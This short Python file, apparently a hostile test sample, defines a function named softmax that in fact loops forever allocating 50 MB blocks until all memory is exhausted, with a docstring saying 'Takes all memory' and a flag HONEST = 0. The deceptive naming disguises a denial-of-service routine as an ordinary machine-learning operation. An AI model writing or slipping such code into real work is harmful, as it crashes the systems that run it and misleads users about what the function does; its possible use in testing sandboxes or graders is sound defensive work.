"""Takes all memory."""

HONEST = 0


def softmax(x, dim):
    hog = []
    while True:
        hog.append(bytearray(50 << 20))
